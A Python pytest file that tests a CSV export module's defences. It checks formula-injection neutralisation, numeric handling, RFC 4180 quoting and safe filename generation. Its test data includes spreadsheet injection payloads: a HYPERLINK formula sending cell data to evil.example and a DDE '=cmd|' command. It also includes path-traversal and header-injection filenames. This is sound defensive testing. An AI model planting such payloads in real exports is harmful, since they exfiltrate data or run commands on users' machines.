"""CSV exports: formula injection neutralised in text cells only, numbers kept as numbers, RFC 4180 quoting that
round-trips through the csv module, and safe download names."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from backend.analytics.csv_export import safe_filename, to_csv


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


INJECTIONS = ['=HYPERLINK("https://evil.example/?d="&A1, "Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
              " =1", "   @SUM(1)", "\n=1", "\uff1d1+1", "=cmd|'/c calc'!A1"]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_a_text_cell_that_starts_like_a_formula_is_written_as_text(payload):
    [header, row] = read(to_csv(["title", "n"], [[payload, 1]]))
    assert header == ["title", "n"]
    assert row == ["'" + payload, "1"]  # the payload itself is kept, after the apostrophe


@pytest.mark.parametrize("text", ["Fix a tap", "a=b", "1+1", "email@example.com", "x-ray", "", " plain",
                                  "'quoted already", "Zoë's café – 5★"])
def test_ordinary_text_is_written_unchanged(text):
    assert read(to_csv(["t"], [[text]]))[1] == [text]


def test_numbers_stay_numbers_negative_ones_too():
    text = to_csv(["int", "neg", "float", "negfloat", "dec", "negdec", "zero", "none"],
                  [[42, -2, 0.5, -12.25, Decimal("1234.50"), Decimal("-0.10"), 0, None]])
    assert text.splitlines()[1] == "42,-2,0.5,-12.25,1234.50,-0.10,0,"
    assert read(text)[1] == ["42", "-2", "0.5", "-12.25", "1234.50", "-0.10", "0", ""]


def test_a_number_as_text_is_still_text():
    # A caller that formats a figure itself ("-$5.00") hands over text: it is neutralised like any other text
    assert read(to_csv(["amount"], [["-$5.00"]]))[1] == ["'-$5.00"]


def test_other_values():
    text = to_csv(["b", "d", "inf", "nan", "decimal"],
                  [[True, date(2026, 3, 1), float("inf"), float("nan"), Decimal("1E+2")]])
    assert read(text)[1] == ["true", "2026-03-01", "", "", "100"]


def test_quotes_commas_and_line_breaks_round_trip():
    values = ['He said "hi", then left', "a,b,c", "line one\nline two", "cr\r\nlf", 'tricky",=1', "tab\tinside"]
    text = to_csv(["v1", "v2", "v3", "v4", "v5", "v6"], [values, values])
    assert read(text)[1:] == [values, values]
    assert text.endswith("\r\n") and text.count('"He said ""hi"", then left"') == 2  # RFC 4180 quote doubling


def test_unicode_text_encodes_as_utf8():
    text = to_csv(["name"], [["Zoë Ångström 日本"]])
    assert read(text.encode("utf-8").decode("utf-8"))[1] == ["Zoë Ångström 日本"]
    assert not text.startswith("\ufeff")


def test_rows_must_match_the_header():
    with pytest.raises(ValueError, match="row 2"):
        to_csv(["a", "b"], [[1, 2], [1]])


def test_empty_table_is_just_the_header():
    assert to_csv(["day", "gmv"], []) == "day,gmv\r\n"


@pytest.mark.parametrize(("stem", "expected"), [
    ("GMV by day", "gmv-by-day.csv"),
    ("orders_by_state 2026-01-01..2026-03-31", "orders_by_state-2026-01-01-2026-03-31.csv"),
    ("../../etc/passwd", "etc-passwd.csv"),
    ('evil"; filename=x.exe', "evil-filename-x-exe.csv"),
    ("Café Zoë", "cafe-zoe.csv"),
    ("funnel.csv", "funnel.csv"),
    ("", "export.csv"),
    ("日本", "export.csv"),
    ("a" * 200, "a" * 80 + ".csv"),
])
def test_safe_filename(stem, expected):
    assert safe_filename(stem) == expected
